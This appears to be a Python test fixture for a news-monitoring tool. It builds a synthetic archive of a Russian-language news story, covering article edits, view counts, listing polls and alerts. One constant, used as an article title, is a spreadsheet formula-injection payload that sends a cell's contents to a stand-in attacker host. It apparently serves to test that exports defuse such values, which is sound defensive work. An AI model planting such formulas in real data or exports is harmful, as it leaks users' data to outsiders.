"""An archive with a story in it, told through the store's port: counted, edited, listed, doubted and missed."""

import asyncio
import math
import os
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

from click.testing import CliRunner, Result

from monitor.cli import cli
from monitor.core.silence import covered
from monitor.model import (
    Alert,
    AlertKind,
    ArticleUpdate,
    Block,
    Event,
    EventKind,
    Front,
    Hit,
    Hole,
    Lesson,
    Match,
    NewArticle,
    NextCheck,
    NormKey,
    NormSample,
    Observation,
    Plan,
    Revision,
    RhythmCell,
    Source,
    SourceId,
    SourceUpdate,
    Target,
    TargetKind,
)
from tests.store.desk import Desk, opened

HOUR = timedelta(hours=1)
RU = SourceId("24kg-ru")
CONFIG = """\
[monitor]
database = "monitor.db"
timezone = "Asia/Bishkek"

[[source]]
id = "24kg-ru"
site = "24.kg"
listing = "https://24.kg/"
language = "ru"

[[rule]]
id = "vakunov"
query = "Вакунов"
sinks = ["log"]

[[sink]]
id = "log"
kind = "console"
"""
TITLES = ("Посол Вакунов: погибли трое", "Посол Вакунов: погибли пятеро")
BODIES = (
    "Погибли 3 человека.\nВ селе идут спасательные работы.\nДороги закрыты.\nШколы работают.",
    "Погибли 5 человек.\nВ селе идут спасательные работы.\nДороги закрыты.\nШколы работают.",
)
EVIL = '=HYPERLINK("http://evil.example/?"&A1;"Visa")'


class Story:
    """A folder with a configuration and an archive. The story began 30 hours before `now`."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.now = datetime.now(UTC).replace(microsecond=0)
        self.began = self.now - 30 * HOUR
        self.elsewhere = folder / "elsewhere"
        self.elsewhere.mkdir()
        self.config = folder / "monitor.toml"
        self.config.write_text(CONFIG, encoding="utf-8")

    def run(self, *words: str) -> Result:
        """Run a command within this process."""
        words = ("--config", str(self.config), *words)
        return CliRunner().invoke(cli, words, catch_exceptions=False)

    async def program(
        self, *words: str, lacking: str = "nothing", stdout: int = asyncio.subprocess.PIPE
    ) -> tuple[int, str, str]:
        """Run a command as a process of its own; the library `lacking` is not installed there."""
        code = f"import sys; sys.modules[{lacking!r}] = None; from monitor.cli import main; main()"
        return await self._python(code, *words, stdout=stdout)

    async def loaded_by(self, *words: str) -> set[str]:
        """Return the names of all modules that a command loads."""
        code = (
            "import atexit, sys; from monitor.cli import main; "
            "atexit.register(lambda: print(*sys.modules, file=sys.stderr)); main()"
        )
        return set((await self._python(code, *words))[2].split())

    async def _python(
        self, code: str, *words: str, stdout: int = asyncio.subprocess.PIPE
    ) -> tuple[int, str, str]:
        program = await asyncio.create_subprocess_exec(
            *(sys.executable, "-c", code, *words),
            env={**os.environ, "MONITOR_CONFIG": str(self.config)},
            cwd=self.elsewhere,
            stdout=stdout,
            stderr=asyncio.subprocess.PIPE,
        )
        async with asyncio.timeout(30):
            out, err = await program.communicate()
        assert program.returncode is not None
        return program.returncode, (out or b"").decode(), err.decode()

    async def tell(self) -> None:
        """Write the archive: article 1 has a life, 2 a title that a spreadsheet would run, and 3 was never read."""
        async with opened(self.folder / "monitor.db") as desk:
            await desk.adopt(Source(id=RU, site="24.kg", listing="https://24.kg/", language="ru"))
            await self._find(desk)
            await self._read(desk)
            await self._poll(desk)

    async def _find(self, desk: Desk) -> None:
        at = self.began
        (listing,) = await desk.claim(now=self.now)
        found = [self._new(1, TITLES[0], 1), self._new(2, EVIL, 2), self._new(3, "Unread", 3)]
        lesson = Lesson(
            cells=tuple(RhythmCell(hour=h, posts=24.0 if h % 24 == 9 else 1.0, hours=8.0) for h in range(168)),
            heat=0.0,
            heat_at=at,
        )  # fmt: skip
        update = SourceUpdate(seeded_at=at, polled_at=at, lesson=lesson)
        plan = Plan(target=listing, next=_next(at), found=tuple(found), source=update)
        await desk.store.commit(plan)

    def _new(self, number: int, title: str, position: int) -> NewArticle:
        identity = Desk.identity(number)
        return NewArticle(
            identity=identity,
            spelling=identity.url,
            title=title,
            published_at=self.began - timedelta(minutes=10),
            language="ru",
            seeded=False,
            due_at=self.began,
            absent_at=self.began - timedelta(minutes=2),
            position=position,
        )

    async def _read(self, desk: Desk) -> None:
        for step, hours in enumerate((0.2, 0.5, 1, 2, 3, 5, 8, 12, 18, 24)):
            targets = await self._claim(desk, TargetKind.ARTICLE)
            for target in (each for each in targets if each.article in (1, 2)):
                plan = self._reading(target, step, self.began + hours * HOUR, hours)
                await desk.store.commit(plan)

    async def _claim(self, desk: Desk, kind: TargetKind) -> list[Target]:
        targets = await desk.claim(now=self.now)
        await desk.store.release([target for target in targets if target.kind is not kind])
        return [target for target in targets if target.kind is kind]

    def _reading(self, target: Target, step: int, at: datetime, hours: float) -> Plan:
        article = target.article
        assert article is not None
        is_first = target.url == Desk.identity(1).url
        views = int((3000 if is_first else 300) * (1 - math.exp(-hours / 4))) + step
        if is_first and step == 6:
            views = 100  # an old page from a cache
        number = {0: 1, 4: 2}.get(step) if is_first else {0: 1}.get(step)
        wording = None if number is None else self._wording(article, number, at, is_first)
        events: tuple[Event, ...] = ()
        if is_first and step == 4:
            events = _edits(article, at)
        if is_first and step == 6:
            events = (Event(article=article, kind=EventKind.COUNTER_BACKWARDS, at=at),)
        return Plan(
            target=target,
            next=_next(at),
            expects=None if number is None else number - 1,
            article=ArticleUpdate(
                article=article,
                title=None if wording is None else wording.title,
                section="Общество",
                views_per_hour=80.0 if is_first else 20.0,
                flaws=frozenset({EventKind.COUNTER_BACKWARDS}) if is_first and step > 5 else None,
            ),
            observation=Observation(article=article, at=at, views=views),
            revision=wording,
            matches=_matches() if number == 1 and is_first else (),
            alerts=_alerts() if number == 1 and is_first else (),
            events=events,
            samples=_samples() if step == 0 and is_first else (),
        )

    def _wording(self, article: int, number: int, at: datetime, is_first: bool) -> Revision:
        return Revision(
            article=article,
            number=number,
            fingerprint=bytes([number]) * 16,
            seen_at=at,
            title=TITLES[number - 1] if is_first else EVIL,
            body=BODIES[number - 1] if is_first else "Body.",
        )

    async def _poll(self, desk: Desk) -> None:
        """Poll the listing: proven for ten hours, then a hole of two, then proven late, then nothing but failures."""
        polls = [(self.began + n * HOUR / 2, True) for n in range(1, 21)]
        polls += [(self.began + 12 * HOUR, False), (self.began + 15 * HOUR, True)]
        before = self.began
        for at, is_proven in polls:
            hours = covered(before, at, found=1, is_proven=is_proven, is_failed=False)
            hole = None if is_proven else Hole(pages=20, after=before, before=at)
            update = SourceUpdate(polled_at=at, hours=hours, hole=hole)
            await self._listing(desk, at, update)
            before = at
        failed = covered(None, self.began + 16 * HOUR, found=0, is_proven=False, is_failed=True)
        await self._listing(desk, self.began + 16 * HOUR, SourceUpdate(failures=1, hours=failed))

    async def _listing(self, desk: Desk, at: datetime, update: SourceUpdate) -> None:
        (listing,) = await self._claim(desk, TargetKind.LISTING)
        hours = (at - self.began) / HOUR
        # The first article leaves the first five places after six hours, and the listing after ten.
        front = Front(
            block=Block.LISTING,
            at=at,
            continues_from=at - 3 * HOUR,
            positions=((1, 1 + int(hours)),) if hours <= 10 else (),
        )
        plan = Plan(target=listing, next=_next(at), source=update, fronts=(front,))
        await desk.store.commit(plan)


def _next(at: datetime) -> NextCheck:
    return NextCheck(due_at=at, checked_at=at, status=200, worth=0.5, firm=0.1)


def _edits(article: int, at: datetime) -> tuple[Event, ...]:
    def event(kind: EventKind, **said: object) -> Event:
        return Event(article=article, kind=kind, at=at, revision=2, **said)  # type: ignore[arg-type]

    return (
        event(EventKind.EDITED),
        event(EventKind.HEADLINE_CHANGED, before=TITLES[0], after=TITLES[1]),
        event(EventKind.NUMBER_CHANGED, before="3", after="5", words=("Погибли 5 человек.",)),
    )


def _matches() -> tuple[Match, ...]:
    return (Match(rule="vakunov", hits=(Hit(field="title", start=6, end=13, words="Вакунов"),)),)


def _alerts() -> tuple[Alert, ...]:
    payload = '{"type": "article.matched"}'
    return (
        Alert(id="msg_1", kind=AlertKind.MATCHED, rule="vakunov", sinks=("log",), payload=payload),
    )


def _samples() -> tuple[NormSample, ...]:
    """Return what forty articles before taught: about 1,000 views at every age, at a pace of 30 an hour."""
    return tuple(
        NormSample(
            key=NormKey(section="", daypart=-1, age=age),
            log_views=math.log(1000) + (0.3 if n % 2 else -0.3),
            pace=36,
        )
        for age in range(20)
        for n in range(40)
    )
